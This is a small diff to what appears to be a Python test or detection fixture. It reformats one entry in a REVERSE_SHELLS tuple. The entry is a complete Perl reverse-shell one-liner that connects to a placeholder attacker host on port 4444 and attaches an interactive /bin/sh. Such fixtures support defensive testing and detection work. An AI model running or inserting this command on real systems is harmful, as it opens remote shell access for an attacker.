@@ -73,7 +73,8 @@ REVERSE_SHELLS: Final[tuple[ExecCommand, ...]] = (
         (
             "perl",
             "-e",
-            f'use Socket;$i="{ATTACKER}";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+            f'use Socket;$i="{ATTACKER}";$p=4444;'
+            'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
             'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
             'exec("/bin/sh -i");};',
         ),
